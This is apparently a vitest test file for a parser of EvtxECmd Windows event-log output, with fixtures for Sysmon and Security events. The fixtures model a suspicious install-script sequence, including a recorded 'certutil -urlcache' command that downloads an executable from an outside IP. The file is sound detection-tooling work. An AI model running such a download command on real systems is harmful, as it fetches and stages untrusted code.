/**
 * EvtxECmd output (src/sources/evtxecmd.ts): rows written as EvtxECmd writes them (CsvHelper CSV
 * with a BOM and CRLF, ServiceStack JSON lines without null members, Payload as Newtonsoft's
 * JSON of EventData/UserData), read to the fields and logsource the EVTX readers give.
 */
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { evtxEcmdReader } from '../../src/sources/evtxecmd.js';
import { sniffFormat } from '../../src/sources/open.js';
import { chunked, readWith, withoutSource } from './helpers.js';

const HEADER =
  'RecordNumber,EventRecordId,TimeCreated,EventId,Level,Provider,Channel,ProcessId,ThreadId,Computer,ChunkNumber,UserId,MapDescription,UserName,RemoteHost,PayloadData1,PayloadData2,PayloadData3,PayloadData4,PayloadData5,PayloadData6,ExecutableInfo,HiddenRecord,SourceFile,Keywords,ExtraDataOffset,Payload';

// Sysmon 1, written out whole in both forms.
const SYSMON1_CSV = String.raw`48212,48212,2026-11-27 09:14:02.1213388,1,Info,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,3120,4408,DEV-WS-042.corp.example.com,0,S-1-5-18,Process creation,CORP\alice,,"ProcessID: 7312, ProcessGUID: {5f1c2a10-978b-a5ee-9471-3f09aa08e3ca}",RuleName: -,,ParentProcess: C:\Program Files\nodejs\node.exe,"ParentProcessID: 6120, ParentProcessGUID: {5f1c2a10-e79b-4cdd-65fa-8f517d9fa5a2}",ParentCommandLine: node install.js,"C:\WINDOWS\system32\cmd.exe /d /s /c ""whoami""",False,C:\Windows\System32\winevt\Logs\Microsoft-Windows-Sysmon%4Operational.evtx,Classic,0,"{""EventData"":{""Data"":[{""@Name"":""RuleName"",""#text"":""-""},{""@Name"":""UtcTime"",""#text"":""2026-11-27 09:14:02.120""},{""@Name"":""ProcessGuid"",""#text"":""{5f1c2a10-978b-a5ee-9471-3f09aa08e3ca}""},{""@Name"":""ProcessId"",""#text"":""7312""},{""@Name"":""Image"",""#text"":""C:\\Windows\\System32\\cmd.exe""},{""@Name"":""CommandLine"",""#text"":""C:\\WINDOWS\\system32\\cmd.exe /d /s /c \""whoami\""""},{""@Name"":""User"",""#text"":""CORP\\alice""},{""@Name"":""ParentProcessGuid"",""#text"":""{5f1c2a10-e79b-4cdd-65fa-8f517d9fa5a2}""},{""@Name"":""ParentProcessId"",""#text"":""6120""},{""@Name"":""ParentImage"",""#text"":""C:\\Program Files\\nodejs\\node.exe""},{""@Name"":""ParentCommandLine"",""#text"":""node install.js""}]}}"`;
const SYSMON1_JSON = String.raw`{"PayloadData1":"ProcessID: 7312, ProcessGUID: {5f1c2a10-978b-a5ee-9471-3f09aa08e3ca}","PayloadData2":"RuleName: -","PayloadData3":"","PayloadData4":"ParentProcess: C:\\Program Files\\nodejs\\node.exe","PayloadData5":"ParentProcessID: 6120, ParentProcessGUID: {5f1c2a10-e79b-4cdd-65fa-8f517d9fa5a2}","PayloadData6":"ParentCommandLine: node install.js","UserName":"CORP\\alice","ExecutableInfo":"C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"whoami\"","MapDescription":"Process creation","ChunkNumber":0,"Computer":"DEV-WS-042.corp.example.com","Payload":"{\"EventData\":{\"Data\":[{\"@Name\":\"RuleName\",\"#text\":\"-\"},{\"@Name\":\"UtcTime\",\"#text\":\"2026-11-27 09:14:02.120\"},{\"@Name\":\"ProcessGuid\",\"#text\":\"{5f1c2a10-978b-a5ee-9471-3f09aa08e3ca}\"},{\"@Name\":\"ProcessId\",\"#text\":\"7312\"},{\"@Name\":\"Image\",\"#text\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"},{\"@Name\":\"CommandLine\",\"#text\":\"C:\\\\WINDOWS\\\\system32\\\\cmd.exe /d /s /c \\\"whoami\\\"\"},{\"@Name\":\"User\",\"#text\":\"CORP\\\\alice\"},{\"@Name\":\"ParentProcessGuid\",\"#text\":\"{5f1c2a10-e79b-4cdd-65fa-8f517d9fa5a2}\"},{\"@Name\":\"ParentProcessId\",\"#text\":\"6120\"},{\"@Name\":\"ParentImage\",\"#text\":\"C:\\\\Program Files\\\\nodejs\\\\node.exe\"},{\"@Name\":\"ParentCommandLine\",\"#text\":\"node install.js\"}]}}","UserId":"S-1-5-18","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":1,"EventRecordId":"48212","ProcessId":3120,"ThreadId":4408,"Level":"Info","Keywords":"Classic","SourceFile":"C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2026-11-27T09:14:02.1213388+00:00","RecordNumber":48212}`;

// The other events' Payloads (Newtonsoft's JSON of their EventData), put into rows below the
// way each writer encodes a string: CSV doubles quotes inside a quoted cell, JSON escapes.
const SYSMON11_PAYLOAD = String.raw`{"EventData":{"Data":[{"@Name":"RuleName","#text":"-"},{"@Name":"UtcTime","#text":"2026-11-27 09:16:40.004"},{"@Name":"ProcessGuid","#text":"{5f1c2a10-4586-b7be-1d50-001f017511b3}"},{"@Name":"ProcessId","#text":"7500"},{"@Name":"Image","#text":"C:\\Windows\\System32\\cmd.exe"},{"@Name":"TargetFilename","#text":"C:\\src\\app\\.github\\workflows\\x.yml"},{"@Name":"CreationUtcTime","#text":"2026-11-27 09:16:40.004"},{"@Name":"User","#text":"CORP\\alice"}]}}`;
const SYSMON3_PAYLOAD = String.raw`{"EventData":{"Data":[{"@Name":"RuleName","#text":"-"},{"@Name":"UtcTime","#text":"2026-11-27 09:31:45.220"},{"@Name":"ProcessGuid","#text":"{5f1c2a10-fd49-cf35-11bd-d58e95feca50}"},{"@Name":"ProcessId","#text":"8804"},{"@Name":"Image","#text":"C:\\Program Files\\nodejs\\node.exe"},{"@Name":"User","#text":"CORP\\alice"},{"@Name":"Protocol","#text":"tcp"},{"@Name":"Initiated","#text":"true"},{"@Name":"SourceIp","#text":"10.0.0.5"},{"@Name":"SourcePort","#text":"50213"},{"@Name":"SourcePortName"},{"@Name":"DestinationIp","#text":"104.16.24.35"},{"@Name":"DestinationHostname","#text":"registry.npmjs.org"},{"@Name":"DestinationPort","#text":"443"},{"@Name":"DestinationPortName","#text":"https"}]}}`;
const SECURITY4688_PAYLOAD = String.raw`{"EventData":{"Data":[{"@Name":"SubjectUserSid","#text":"S-1-5-21-3623811015-3361044348-30300820-1013"},{"@Name":"SubjectUserName","#text":"alice"},{"@Name":"SubjectDomainName","#text":"CORP"},{"@Name":"SubjectLogonId","#text":"0x2f4a1c"},{"@Name":"NewProcessId","#text":"0x1c90"},{"@Name":"NewProcessName","#text":"C:\\Windows\\System32\\certutil.exe"},{"@Name":"TokenElevationType","#text":"%%1938"},{"@Name":"ProcessId","#text":"0x1b40"},{"@Name":"CommandLine","#text":"certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe"},{"@Name":"TargetUserSid","#text":"S-1-0-0"},{"@Name":"TargetUserName","#text":"-"},{"@Name":"TargetDomainName","#text":"-"},{"@Name":"TargetLogonId","#text":"0x0"},{"@Name":"ParentProcessName","#text":"C:\\Windows\\System32\\cmd.exe"},{"@Name":"MandatoryLabel","#text":"S-1-16-8192"}]}}`;
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

const SYSMON11_CSV = String.raw`48231,48231,2026-11-27 09:16:40.0049876,11,Info,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,3120,4408,DEV-WS-042.corp.example.com,0,S-1-5-18,FileCreate,CORP\alice,,"ProcessID: 7500, ProcessGUID: {5f1c2a10-4586-b7be-1d50-001f017511b3}",RuleName: -,Image: C:\Windows\System32\cmd.exe,TargetFilename: C:\src\app\.github\workflows\x.yml,,,,False,C:\Windows\System32\winevt\Logs\Microsoft-Windows-Sysmon%4Operational.evtx,Classic,0,` + quoted(SYSMON11_PAYLOAD);
const SYSMON3_CSV = String.raw`48260,48260,2026-11-27 09:31:46.3319020,3,Info,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,3120,4912,DEV-WS-042.corp.example.com,0,S-1-5-18,Network connection,CORP\alice,,"ProcessID: 8804, ProcessGUID: {5f1c2a10-fd49-cf35-11bd-d58e95feca50}",RuleName: -,SourceHostname: ,SourceIp: 10.0.0.5,DestinationHostname: registry.npmjs.org,DestinationIp: 104.16.24.35,C:\Program Files\nodejs\node.exe,False,C:\Windows\System32\winevt\Logs\Microsoft-Windows-Sysmon%4Operational.evtx,Classic,0,` + quoted(SYSMON3_PAYLOAD);
const SECURITY4688_CSV = String.raw`912733,912733,2026-11-27 09:20:11.4013301,4688,LogAlways,Microsoft-Windows-Security-Auditing,Security,4,8712,DEV-WS-042.corp.example.com,3,,Process tracking,CORP\alice,,Parent process: C:\Windows\System32\cmd.exe,PID: 0x1b40,Mandatory label: S-1-16-8192,,,,C:\Windows\System32\certutil.exe certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe,False,C:\Windows\System32\winevt\Logs\Security.evtx,Audit success,0,` + quoted(SECURITY4688_PAYLOAD);

const SYSMON11_JSON = String.raw`{"PayloadData1":"ProcessID: 7500, ProcessGUID: {5f1c2a10-4586-b7be-1d50-001f017511b3}","PayloadData2":"RuleName: -","PayloadData3":"Image: C:\\Windows\\System32\\cmd.exe","PayloadData4":"TargetFilename: C:\\src\\app\\.github\\workflows\\x.yml","UserName":"CORP\\alice","MapDescription":"FileCreate","ChunkNumber":0,"Computer":"DEV-WS-042.corp.example.com","Payload":${JSON.stringify(SYSMON11_PAYLOAD)},"UserId":"S-1-5-18","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":11,"EventRecordId":"48231","ProcessId":3120,"ThreadId":4408,"Level":"Info","Keywords":"Classic","SourceFile":"C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2026-11-27T09:16:40.0049876+00:00","RecordNumber":48231}`;
const SYSMON3_JSON = String.raw`{"PayloadData1":"ProcessID: 8804, ProcessGUID: {5f1c2a10-fd49-cf35-11bd-d58e95feca50}","PayloadData2":"RuleName: -","PayloadData3":"SourceHostname: ","PayloadData4":"SourceIp: 10.0.0.5","PayloadData5":"DestinationHostname: registry.npmjs.org","PayloadData6":"DestinationIp: 104.16.24.35","UserName":"CORP\\alice","ExecutableInfo":"C:\\Program Files\\nodejs\\node.exe","MapDescription":"Network connection","ChunkNumber":0,"Computer":"DEV-WS-042.corp.example.com","Payload":${JSON.stringify(SYSMON3_PAYLOAD)},"UserId":"S-1-5-18","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":3,"EventRecordId":"48260","ProcessId":3120,"ThreadId":4912,"Level":"Info","Keywords":"Classic","SourceFile":"C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2026-11-27T09:31:46.3319020+00:00","RecordNumber":48260}`;
// Security events have no UserID: ServiceStack leaves the null UserId out.
const SECURITY4688_JSON = String.raw`{"PayloadData1":"Parent process: C:\\Windows\\System32\\cmd.exe","PayloadData2":"PID: 0x1b40","PayloadData3":"Mandatory label: S-1-16-8192","UserName":"CORP\\alice","ExecutableInfo":"C:\\Windows\\System32\\certutil.exe certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe","MapDescription":"Process tracking","ChunkNumber":3,"Computer":"DEV-WS-042.corp.example.com","Payload":${JSON.stringify(SECURITY4688_PAYLOAD)},"Channel":"Security","Provider":"Microsoft-Windows-Security-Auditing","EventId":4688,"EventRecordId":"912733","ProcessId":4,"ThreadId":8712,"Level":"LogAlways","Keywords":"Audit success","SourceFile":"C:\\Windows\\System32\\winevt\\Logs\\Security.evtx","ExtraDataOffset":0,"HiddenRecord":false,"TimeCreated":"2026-11-27T09:20:11.4013301+00:00","RecordNumber":912733}`;

const BOM = '\uFEFF';
const CSV_FILE = BOM + [HEADER, SYSMON1_CSV, SYSMON11_CSV, SYSMON3_CSV, SECURITY4688_CSV].join('\r\n') + '\r\n';
const JSON_FILE = BOM + [SYSMON1_JSON, SYSMON11_JSON, SYSMON3_JSON, SECURITY4688_JSON].join('\r\n') + '\r\n';

const read = (text: string) => readWith(evtxEcmdReader, Readable.from([Buffer.from(text)]), 'out.csv');

describe('evtxecmd: the four events in both forms', () => {
  for (const [form, text] of [['CSV', CSV_FILE], ['JSON', JSON_FILE]] as const) {
    it(`${form}: Sysmon 1, 11, 3 and Security 4688 get the category, time, host and Sigma fields they get from EVTX`, async () => {
      const { events, bad } = await read(text);
      expect(bad).toEqual([]);
      expect(events.map((e) => e.source.line)).toEqual(form === 'CSV' ? [2, 3, 4, 5] : [1, 2, 3, 4]);
      const [sysmon1, sysmon11, sysmon3, security] = events;
      expect(sysmon1).toMatchObject({
        category: 'process_creation', product: 'windows', service: 'sysmon',
        time: Date.UTC(2026, 10, 27, 9, 14, 2, 121), host: 'DEV-WS-042.corp.example.com', user: 'CORP\\alice',
      });
      expect(sysmon1!.fields).toMatchObject({
        EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon',
        Computer: 'DEV-WS-042.corp.example.com', EventRecordID: 48212, Execution_ProcessID: 3120, Execution_ThreadID: 4408,
        Security_UserID: 'S-1-5-18',
        Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"',
        ParentImage: 'C:\\Program Files\\nodejs\\node.exe', ParentCommandLine: 'node install.js',
        ProcessId: '7312', ParentProcessId: '6120', UtcTime: '2026-11-27 09:14:02.120',
        MapDescription: 'Process creation', ExecutableInfo: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"', Level: 'Info',
      });
      // The Payload is read into fields, not kept as text.
      expect(sysmon1!.fields).not.toHaveProperty('Payload');
      expect(sysmon11).toMatchObject({ category: 'file_event', service: 'sysmon', time: Date.UTC(2026, 10, 27, 9, 16, 40, 4) });
      expect(sysmon11!.fields).toMatchObject({ TargetFilename: 'C:\\src\\app\\.github\\workflows\\x.yml', Image: 'C:\\Windows\\System32\\cmd.exe', EventID: 11 });
      expect(sysmon3).toMatchObject({ category: 'network_connection', host: 'DEV-WS-042.corp.example.com', time: Date.UTC(2026, 10, 27, 9, 31, 46, 331) });
      expect(sysmon3!.fields).toMatchObject({
        DestinationHostname: 'registry.npmjs.org', DestinationIp: '104.16.24.35', DestinationPort: '443', Initiated: 'true',
        SourcePortName: '', // <Data Name="SourcePortName"/>: present and empty
        Execution_ThreadID: 4912,
      });
      expect(security).toMatchObject({
        category: 'process_creation', product: 'windows', service: 'security', user: 'CORP\\alice',
        time: Date.UTC(2026, 10, 27, 9, 20, 11, 401), host: 'DEV-WS-042.corp.example.com',
      });
      expect(security!.fields).toMatchObject({
        EventID: 4688, Channel: 'Security', Provider_Name: 'Microsoft-Windows-Security-Auditing', EventRecordID: 912733,
        Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe', ProcessId: '0x1c90', ParentProcessId: '0x1b40',
        Execution_ProcessID: 4, Level: 'LogAlways', Keywords: 'Audit success',
      });
      expect(security!.fields).not.toHaveProperty('Security_UserID');
    });
  }

  it('both forms give the same events, the typed JSON members aside', async () => {
    const csv = (await read(CSV_FILE)).events;
    const json = (await read(JSON_FILE)).events;
    const sigma = (e: (typeof csv)[number]) => {
      const { source: _s, fields, ...rest } = e;
      const { RecordNumber: _r, ChunkNumber: _c, HiddenRecord: _h, ExtraDataOffset: _x, TimeCreated: _t, PayloadData3: _p, ...kept } = fields;
      return { ...rest, fields: kept };
    };
    expect(json.map(sigma)).toEqual(csv.map(sigma));
  });

  it('reads the JSON form cut into awkward chunks (a BOM alone, then a byte at a time) as a whole', async () => {
    const whole = (await read(JSON_FILE)).events;
    const cut = await readWith(evtxEcmdReader, chunked(JSON_FILE, [3, 1, 1, 7, 4096]));
    expect(withoutSource(cut.events)).toEqual(withoutSource(whole));
    const csvCut = await readWith(evtxEcmdReader, chunked(CSV_FILE, [3, 2, 511]));
    expect(withoutSource(csvCut.events)).toEqual(withoutSource((await read(CSV_FILE)).events));
  });
});

describe('evtxecmd: Payload shapes and broken rows', () => {
  const jsonRow = (payload: string, extra = '') =>
    `{"MapDescription":"x","ChunkNumber":0,"Computer":"WS1","Payload":${JSON.stringify(payload)},"Channel":"System","Provider":"Service Control Manager","EventId":7045,"EventRecordId":"9"${extra},"TimeCreated":"2026-11-27T10:00:00.0000000+00:00"}`;

  it('one Data child is an object; anonymous Data items are kept as Data; UserData children by name', async () => {
    const { events, bad } = await read(
      [
        jsonRow('{"EventData":{"Data":{"@Name":"ServiceName","#text":"evil"}}}'),
        jsonRow('{"EventData":{"Data":["first","second"],"Binary":"00FF"}}'),
        jsonRow('{"UserData":{"LogFileCleared":{"SubjectUserSid":"S-1-5-21-1","SubjectUserName":"alice","SubjectDomainName":"CORP"}}}'),
        jsonRow('{"EventData":null}'),
      ].join('\n'),
    );
    expect(bad).toEqual([]);
    expect(events[0]!.fields).toMatchObject({ ServiceName: 'evil', EventID: 7045, Provider_Name: 'Service Control Manager' });
    expect(events[0]).toMatchObject({ product: 'windows', service: 'system', time: Date.UTC(2026, 10, 27, 10) });
    expect(events[1]!.fields).toMatchObject({ Data: ['first', 'second'], Binary: '00FF' });
    expect(events[2]!.fields).toMatchObject({ SubjectUserSid: 'S-1-5-21-1', SubjectUserName: 'alice', SubjectDomainName: 'CORP' });
    expect(Object.keys(events[3]!.fields).sort()).toEqual(['Channel', 'ChunkNumber', 'Computer', 'EventID', 'EventRecordID', 'MapDescription', 'Provider_Name', 'TimeCreated']);
  });

  it('a Payload that is not JSON: one bad record with its line; the row still gives its event, Payload kept as text', async () => {
    const brokenCsv = String.raw`48213,48213,2026-11-27 09:14:02.1694420,1,Info,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,3120,4408,DEV-WS-042.corp.example.com,0,S-1-5-18,Process creation,CORP\alice,,,,,,,,whoami,False,Sysmon.evtx,Classic,0,"{""EventData"":{""Data"":[{""@Name"":""Image"",""#text"":""C:\\Win"`;
    const { events, bad } = await read(BOM + [HEADER, brokenCsv, SYSMON11_CSV].join('\r\n') + '\r\n');
    expect(bad).toHaveLength(1);
    expect(bad[0]).toMatchObject({ file: 'out.csv', format: 'evtxecmd', line: 2 });
    expect(bad[0]!.reason).toMatch(/^Payload is not valid JSON/);
    expect(events.map((e) => [e.source.line, e.category])).toEqual([[2, 'process_creation'], [3, 'file_event']]);
    expect(events[0]!.fields).toMatchObject({ EventID: 1, ExecutableInfo: 'whoami', Payload: String.raw`{"EventData":{"Data":[{"@Name":"Image","#text":"C:\\Win` });
    expect(events[0]!.fields).not.toHaveProperty('Image');

    const json = await read([jsonRow('{"EventData":'), SYSMON11_JSON, '{"EventId": 1, "Payload": ', '[1]'].join('\n'));
    expect(json.bad.map((b) => [b.line, b.reason.split(':')[0]])).toEqual([[1, 'Payload is not valid JSON'], [3, 'invalid JSON'], [4, 'not a JSON object']]);
    expect(json.events.map((e) => e.source.line)).toEqual([1, 2]);
  });

  it('a quoted CSV cell with commas, doubled quotes and line breaks; the next record keeps its line number', async () => {
    const multiLine = String.raw`48214,48214,2026-11-27 09:14:03.0000000,1,Info,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,3120,4408,WS1,0,S-1-5-18,Process creation,CORP\alice,,,,,,,,"powershell.exe -c ""Write-Host a,b""` +
      '\r\n' + 'Get-Process,\r\nexit",False,Sysmon.evtx,Classic,0,' +
      quoted(String.raw`{"EventData":{"Data":[{"@Name":"Image","#text":"C:\\p.exe"},{"@Name":"CommandLine","#text":"powershell.exe -c \"Write-Host a,b\"\r\nGet-Process,\r\nexit"}]}}`);
    const { events, bad } = await read([HEADER, multiLine, SYSMON11_CSV].join('\r\n') + '\r\n');
    expect(bad).toEqual([]);
    expect(events.map((e) => e.source.line)).toEqual([2, 5]);
    expect(events[0]!.fields.ExecutableInfo).toBe('powershell.exe -c "Write-Host a,b"\r\nGet-Process,\r\nexit');
    expect(events[0]!.fields.CommandLine).toBe('powershell.exe -c "Write-Host a,b"\r\nGet-Process,\r\nexit');
  });

  it('a row with the wrong number of cells, or without EventId, Channel and Provider, is a bad record', async () => {
    const { events, bad } = await read([HEADER, '1,2,3', SYSMON11_CSV].join('\n') + '\n');
    expect(bad.map((b) => [b.line, b.reason])).toEqual([[2, '3 cells, header has 27']]);
    expect(events).toHaveLength(1);
    const json = await read('{"ChunkNumber":0,"Computer":"WS1","Payload":"{}"}\n');
    expect(json.bad.map((b) => b.reason)).toEqual(['not an EvtxECmd row (no EventId, Channel or Provider)']);
  });

  it('a TimeCreated written with a custom --dt that is not year-first gives no time, not a guessed one', async () => {
    const { events } = await read(jsonRow('{}').replace('2026-11-27T10:00:00.0000000+00:00', '11/27/2026 10:00:00'));
    expect(events).toHaveLength(1);
    expect(events[0]!.time).toBeUndefined();
  });
});

describe('evtxecmd: sniffing and splitting', () => {
  it('is chosen for both forms, with or without the BOM, over the flat-JSON fallback', () => {
    for (const text of [CSV_FILE, CSV_FILE.slice(1), JSON_FILE, JSON_FILE.slice(1)]) expect(sniffFormat(text)?.format).toBe('evtxecmd');
  });

  it('a first JSON line longer than the head is recognised by the members the head holds', () => {
    // A long parent command line: the head ends inside PayloadData6, PayloadData1…5 are whole.
    const long = SYSMON1_JSON.replaceAll('node install.js', 'x'.repeat(70_000));
    const head = Buffer.from(BOM + long + '\r\n').subarray(0, 64 * 1024).toString('utf8');
    expect(sniffFormat(head)?.format).toBe('evtxecmd');
  });

  it('is not chosen for evtx_dump JSON, flat Sigma JSON with a PayloadData-like member, or a QRadar CSV', () => {
    expect(evtxEcmdReader.sniff('{"EventID":1,"Image":"a","MapDescription":"x"}\n')).toBe(0);
    expect(evtxEcmdReader.sniff('{"Event":{"System":{"EventID":1,"Computer":"x"},"EventData":{"Image":"a"}}}\n')).toBe(0);
    expect(evtxEcmdReader.sniff('starttime,qidname,sourceip,Payload\n1,Process Create,10.0.0.1,x\n')).toBe(0);
  });

  it('splits JSON lines, not CSV (a quoted cell may hold line breaks, and a range has no header)', () => {
    expect(evtxEcmdReader.splitsInput!(JSON_FILE)).toBe(true);
    expect(evtxEcmdReader.splitsInput!(CSV_FILE)).toBe(false);
  });

  it('a byte range of the JSON form (reused chunks, starting mid-file) reads as those lines', async () => {
    const start = Buffer.from(JSON_FILE).indexOf('\n') + 1;
    const range = Buffer.from(JSON_FILE).subarray(start);
    const reused = Buffer.alloc(100);
    async function* chunks(): AsyncGenerator<Buffer> {
      for (let at = 0; at < range.length; at += reused.length) {
        const n = range.copy(reused, 0, at, at + reused.length);
        yield reused.subarray(0, n);
      }
    }
    const { events, bad } = await readWith(evtxEcmdReader, chunks() as unknown as Readable);
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.source.line, e.fields.EventID])).toEqual([[1, 11], [2, 3], [3, 4688]]);
  });
});
